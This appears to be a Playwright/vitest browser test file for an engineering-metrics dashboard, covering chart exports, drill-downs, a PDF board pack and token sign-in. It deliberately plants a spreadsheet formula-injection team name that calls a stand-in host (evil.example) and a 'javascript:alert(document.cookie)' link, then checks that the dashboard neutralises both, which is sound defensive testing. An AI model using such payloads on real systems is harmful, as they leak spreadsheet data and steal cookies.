import { mkdir, readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createApiToken, setAppSetting } from '@stride/db';
import { type SeededOrg, seedDashboardOrg } from '@stride/testkit';
import { createTestDatabase, type TestDatabase } from '@stride/testkit/database';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type DashboardServer, downloadFrom, openDownloadPage, startDashboard } from '../support/browser.ts';
import { parseCsv } from '../support/parse-csv.ts';

// Screenshots of the main pages, kept as test artifacts (gitignored).
const artifacts = fileURLToPath(new URL('../artifacts/', import.meta.url));

let database: TestDatabase;
let org: SeededOrg;
let server: DashboardServer;
let page: Page;
const HOSTILE_TEAM_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Mobile")';

beforeAll(async () => {
  database = await createTestDatabase();
  org = await seedDashboardOrg(database.db, { now: new Date(), days: 120, seed: 7 });
  // A name a spreadsheet would run as a formula: the dashboard's CSV exports must write it as text.
  org.teams[2]!.name = HOSTILE_TEAM_NAME;
  await database.db
    .updateTable('teams')
    .set({ name: HOSTILE_TEAM_NAME })
    .where('slug', '=', org.teams[2]!.slug)
    .execute();
  server = await startDashboard(database.db, org.teams);
  page = await openDownloadPage(server, { width: 1280, height: 900 });
  await mkdir(artifacts, { recursive: true });
});

afterAll(async () => {
  await server?.close();
  await database?.destroy();
});

/** Period of the page's URL (`from`/`to`, `to` exclusive) as the drill-down passes it on. */
function periodOf(url: string): { from: number; to: number } {
  const params = new URL(url).searchParams;
  const time = (value: string | null) => Date.parse(value?.length === 10 ? `${value}T00:00:00Z` : `${value}`);
  return { from: time(params.get('from')), to: time(params.get('to')) };
}

const download = (action: () => Promise<unknown>) => downloadFrom(page, action);

/** Seeded deployments of a team with deployed_at in the page's period. */
function deploymentsIn(team: string, url: string) {
  const { from, to } = periodOf(url);
  return org.deployments.filter(
    (d) => d.team === team && d.deployedAt.getTime() >= from && d.deployedAt.getTime() < to,
  );
}

const cellOf = (team: string, metric: string) =>
  page.locator(`tr[data-team="${team}"] [data-metric="${metric}"] a.metric-value`);

// One page session, moving through the app by its own links (client-side, as a user does).
describe('dashboard in Chromium against the real API', () => {
  it('overview renders every team with its five DORA metrics', async () => {
    await page.goto(`${server.url}/?period=90d&benchmark=2023`);
    for (const team of org.teams) {
      const row = page.locator(`tr[data-team="${team.slug}"]`);
      // The first load builds every figure on a shared 2-core machine: allow it time.
      await row.locator('.metric-cell').first().waitFor({ timeout: 90_000 });
      await expect.poll(() => row.locator('.metric-cell').count(), { timeout: 15_000 }).toBe(5);
      expect(await row.locator('th').innerText()).toContain(team.name);
      // Level is text + icon, not colour only.
      expect(await row.locator('.level-badge').first().innerText()).toMatch(
        /Elite|High|Medium|Low|No level|too few/,
      );
    }
    await page.locator('.chart-card svg.recharts-surface').first().waitFor();
    expect(await page.locator('.chart-card').count()).toBe(5);
    await page.screenshot({ path: `${artifacts}overview.png`, fullPage: true });
    // The first load may wait up to 90 s for its figures: the test itself must outlast that, or
    // it times out while its steps go on driving the page under the next test.
  }, 180_000);

  it('shows the last sync and labels demo data', async () => {
    // Seeded sync runs all succeeded: "Last sync …", no failing source, no demo label yet.
    const status = page.getByTestId('sync-status');
    expect(await status.innerText()).toMatch(/Last sync .* ago/);
    expect(await status.innerText()).not.toMatch(/failing/);
    expect(await page.getByTestId('demo-badge').count()).toBe(0);
    await setAppSetting(database.db, 'demo', true);
    await page.reload();
    expect(await page.getByTestId('demo-badge').innerText()).toMatch(/demo data/i);
  });

  it('exports an overview chart as PNG, SVG and CSV', async () => {
    const card = page.locator('section.chart-card').first();
    // The PNG and SVG are slides drawn from the chart: wait for it (its chunk loads lazily).
    await card.locator('svg.recharts-surface').waitFor();
    const png = await download(() => card.getByRole('button', { name: /as PNG/ }).click());
    expect(png.name).toMatch(/\.png$/);
    expect([...png.body.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const svg = (await download(() => card.getByRole('button', { name: /as SVG/ }).click())).body.toString(
      'utf8',
    );
    expect(svg).toMatch(/^<\?xml/);
    expect(svg).toContain('<svg');
    expect(svg).toContain('xmlns="http://www.w3.org/2000/svg"');
    const series = await download(() => card.getByRole('button', { name: /as CSV/ }).click());
    expect(series.name).toMatch(/\.csv$/);
    const parsed = parseCsv(series.body.toString('utf8'));
    expect(parsed[0]).toEqual([
      'week starting (UTC, YYYY-MM-DD)',
      'Organisation deployment frequency (deployments per week)',
      'Organisation n (deployments)',
      // Every time chart's CSV ends with the events drawn on it (empty cells without events).
      'events (numbered as on the chart)',
    ]);
    // Weekly buckets over 90 days: 13 or 14 of them, each a date.
    expect(parsed.length - 1).toBeGreaterThanOrEqual(13);
    for (const row of parsed.slice(1)) expect(Number.isNaN(Date.parse(row[0]!))).toBe(false);
  });

  it('compares teams on the org trend charts, kept in the URL', async () => {
    // The checkbox mirrors the URL, which updates in a transition: click, then wait for it.
    await page.getByLabel('Compare teams').click();
    const legend = page.locator('section.chart-card').first().locator('.recharts-legend-item');
    await expect.poll(() => legend.count(), { timeout: 15_000 }).toBe(org.teams.length + 1);
    expect(new URL(page.url()).searchParams.get('compare')).toBe('teams');
    // The compared chart's CSV (made in the browser by @stride/shared/csv) has a column per team.
    const card = page.locator('section.chart-card').first();
    const file = await download(() => card.getByRole('button', { name: /as CSV/ }).click());
    const [header] = parseCsv(file.body.toString('utf8'));
    expect(header?.slice(0, 2)).toEqual([
      'week starting (UTC, YYYY-MM-DD)',
      'Organisation deployment frequency (deployments per week)',
    ]);
    expect(header).toContain(`'${HOSTILE_TEAM_NAME} deployment frequency (deployments per week)`);
    expect(header?.some((h) => h.startsWith('='))).toBe(false);
    await page.getByLabel('Compare teams').click();
    await expect.poll(() => legend.count(), { timeout: 15_000 }).toBe(0);
  });

  it('drills down from a point of a trend chart to that bucket', async () => {
    const chart = page.locator('section.chart-card').first().locator('svg.recharts-surface').first();
    const box = (await chart.boundingBox())!;
    // Hover first: the click drills into the point under the pointer, a middle (whole) week.
    await chart.hover({ position: { x: box.width * 0.5, y: box.height * 0.5 } });
    await chart.click({ position: { x: box.width * 0.5, y: box.height * 0.5 } });
    await page.getByTestId('drill-table').waitFor();
    const { from, to } = periodOf(page.url());
    expect(new Date(from).getUTCDay()).toBe(1); // a Monday: the ISO week's own start, not the period's
    expect(to - from).toBe(7 * 24 * 3_600_000);
    const expected = org.deployments.filter(
      (d) => d.deployedAt.getTime() >= from && d.deployedAt.getTime() < to,
    );
    expect(await page.locator('main').innerText()).toContain(`${expected.length} deployments`);
    await page.goBack();
    await page.locator('tr[data-team] .metric-cell').first().waitFor();
  });

  it('drills down from a figure to the deployments behind it, linking to GitHub, as CSV', async () => {
    const team = org.teams[0]!;
    await cellOf(team.slug, 'deploymentFrequency').click();
    await page.getByTestId('drill-table').waitFor();
    expect(page.url()).toContain('/drill/deployments');
    const expected = deploymentsIn(team.slug, page.url());
    await expect
      .poll(() => page.locator('[data-testid="drill-table"] tbody tr').count(), { timeout: 15_000 })
      .toBe(Math.min(50, expected.length));
    expect(await page.locator('main').innerText()).toContain(`${expected.length} deployments`);
    const href = await page
      .locator('[data-testid="drill-table"] tbody a[href^="https://github.com/"]')
      .first()
      .getAttribute('href');
    expect(expected.some((d) => href?.includes(d.externalId))).toBe(true);
    await page.screenshot({ path: `${artifacts}drill-deployments.png`, fullPage: true });

    const file = await download(() => page.getByTestId('drill-csv').click());
    const rows = parseCsv(file.body.toString('utf8'));
    expect(rows.length - 1).toBe(expected.length);

    // A stored link that is not http(s) (from an older version, or written past the checks) is
    // shown as text: no link at all, whatever the browser would make of it.
    const rowsLocator = page.locator('[data-testid="drill-table"] tbody tr');
    // The commit column links the deployment itself (other columns link its PRs and incidents).
    const commitLink = (row: number) => rowsLocator.nth(row).locator('td').nth(3).locator('a');
    const firstHref = await commitLink(0).getAttribute('href');
    await database.db
      .updateTable('deployments')
      .set({ url: 'javascript:alert(document.cookie)' })
      .where('url', '=', firstHref!)
      .execute();
    await page.reload();
    await expect.poll(() => rowsLocator.count(), { timeout: 15_000 }).toBe(Math.min(50, expected.length));
    expect(await commitLink(0).count()).toBe(0);
    expect(await commitLink(1).count()).toBe(1);
    expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);

    // Incidents link to Jira.
    await page.getByRole('link', { name: 'Incidents' }).click();
    // The incident list itself (failed deployments link to Jira too, in their causes column).
    await page.waitForURL(/\/drill\/incidents/);
    await page.locator('[data-testid="drill-table"] th', { hasText: 'Caused by deployment' }).waitFor();
    await page.locator('[data-testid="drill-table"] tbody a[href*="atlassian"]').first().waitFor();
    const jira = await page.locator('[data-testid="drill-table"] tbody a').first().getAttribute('href');
    expect(org.incidents.map((i) => i.url)).toContain(jira);
  });

  it('a team page renders every chart', async () => {
    const team = org.teams[0]!;
    await page
      .getByRole('navigation', { name: 'Breadcrumb' })
      .getByRole('link', { name: team.name, exact: true })
      .click();
    await page.getByTestId('team-size').waitFor();
    await page.getByTestId('retro-table').waitFor();
    const expected = [
      'Deployment frequency by week',
      'Change lead time by week',
      'Change failure rate by week',
      'Failed deployment recovery time by week',
      'Rework rate by week',
      'Cycle time phases',
      'PR size',
      'Merged PRs over time',
      'Bus factor by repository',
    ];
    for (const title of expected) {
      const card = page.locator(`section.chart-card[aria-label="${title}"]`);
      await card.waitFor();
      // Charts are a lazily loaded chunk: the card is there before its chart is drawn.
      await card.locator('svg.recharts-surface, .state-empty').first().waitFor({ timeout: 30_000 });
      expect(await card.locator('svg.recharts-surface, .state-empty').count(), title).toBeGreaterThan(0);
    }
    expect(await page.getByTestId('team-size').innerText()).toContain(`${team.members.length} members`);
    for (const repository of team.repositories) {
      const row = page.locator(`[data-testid="repository-table"] tr[data-repository="${repository}"]`);
      await row.locator('.metric-cell').first().waitFor();
      expect(await row.locator('.metric-cell').count()).toBe(5);
    }
    await page.screenshot({ path: `${artifacts}team.png`, fullPage: true });
    // A 90-day period (12 weeks + 6 days) never covers whole ISO weeks only, so a weekly trend has
    // a partial first or last bucket, marked by a footnote.
    const params = new URL(page.url()).searchParams;
    if (
      params.get('period') === '90d' &&
      params.get('granularity') !== 'day' &&
      params.get('granularity') !== 'month'
    ) {
      const frequency = page.locator('section.chart-card[aria-label="Deployment frequency by week"]');
      expect(await frequency.getByTestId('partial-note').innerText()).toMatch(/partial week/);
    }

    // Work in progress drills down to the open PRs (all seeded open PRs are still open at `to`;
    // abandoned ones were closed unmerged and are not work in progress).
    const open = org.pullRequests.filter((pr) => pr.team === team.slug && pr.state === 'open');
    await page.getByRole('link', { name: /open PRs/ }).click();
    await page.getByTestId('drill-table').waitFor();
    expect(await page.locator('main').innerText()).toContain(`${open.length} pull requests`);
    const links = await page
      .locator('[data-testid="drill-table"] tbody a')
      .evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    expect(links.sort()).toEqual(open.map((pr) => pr.url).sort());
    await page.goBack();
    await page.getByTestId('team-size').waitFor();

    // A stacked chart's SVG carries its legend (Recharts draws it in HTML).
    const cycle = page.locator('section.chart-card[aria-label="Cycle time phases"]');
    const stacked = (
      await download(() => cycle.getByRole('button', { name: /as SVG/ }).click())
    ).body.toString('utf8');
    for (const phase of ['Coding', 'Pickup', 'Review', 'Deploy'])
      expect(stacked).toContain(`>${phase}</text>`);
  });

  it('prints the board pack to a PDF with one page per section', async () => {
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Board pack' }).click();
    await page.locator('main.board-pack[data-ready="true"]').waitFor();
    const sections = await page.getByTestId('board-section').count();
    expect(sections).toBe(5);
    await page.screenshot({ path: `${artifacts}board-pack.png`, fullPage: true });
    await page.emulateMedia({ media: 'print' });
    // Every section fits its page: nothing is clipped by the fixed print height.
    const overflowing = await page
      .getByTestId('board-section')
      .evaluateAll((nodes) => nodes.filter((n) => n.scrollHeight > n.clientHeight + 1).length);
    expect(overflowing).toBe(0);
    await page.screenshot({ path: `${artifacts}board-pack-print.png`, fullPage: true });
    const pdf = await page.pdf({
      preferCSSPageSize: true,
      printBackground: true,
      path: `${artifacts}board-pack.pdf`,
    });
    await page.emulateMedia({ media: 'screen' });
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    const pages = pdf.toString('latin1').match(/\/Type\s*\/Page(?![s\w])/g) ?? [];
    expect(pages.length).toBe(sections);
  });

  it('bundles no node-only code (the dashboard imports only types from @stride/shared)', async () => {
    const assets = join(server.webDir, 'assets');
    const scripts = (await readdir(assets)).filter((f) => f.endsWith('.js'));
    expect(scripts.length).toBeGreaterThan(0);
    for (const file of scripts) {
      const code = await readFile(join(assets, file), 'utf8');
      // Node built-ins, the config loader's zod and the API's TypeBox schemas must stay out.
      expect(code).not.toMatch(/["']node:[a-z]+["']|ZodError|TypeBox\.Kind/);
    }
  });

  it('shows an error state naming the problem for an unknown team', async () => {
    await page.goto(`${server.url}/teams/no-such-team?period=30d`);
    const alert = page.getByRole('alert').first();
    await alert.waitFor();
    expect(await alert.innerText()).toMatch(/could not load/i);
  });

  // Last: it closes the API's reads for the rest of the file.
  it('asks for a viewer token once reads are closed, and signs in with it', async () => {
    const viewer = await createApiToken(database.db, { name: 'browser test viewer', role: 'viewer' });
    await page.goto(`${server.url}/?period=30d`);
    await page.getByTestId('token-input').waitFor();
    // The sign-in form explains the 401; the header does not also report a sync fault.
    expect(await page.getByText('Sync status unavailable').count()).toBe(0);
    await page.getByTestId('token-input').fill('not-a-token');
    await page.getByRole('button', { name: 'Sign in' }).click();
    expect(await page.getByRole('alert').innerText()).toMatch(/unknown or revoked/);
    await page.getByTestId('token-input').fill(viewer.token);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page
      .locator(`tr[data-team="${org.teams[0]!.slug}"] .metric-cell`)
      .first()
      .waitFor({ timeout: 90_000 });
    await page.getByTestId('sync-status').waitFor();
    // The token itself is not kept by the page (the session is an httpOnly cookie).
    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + document.cookie);
    expect(stored).not.toContain(viewer.token);
  }, 180_000);
});
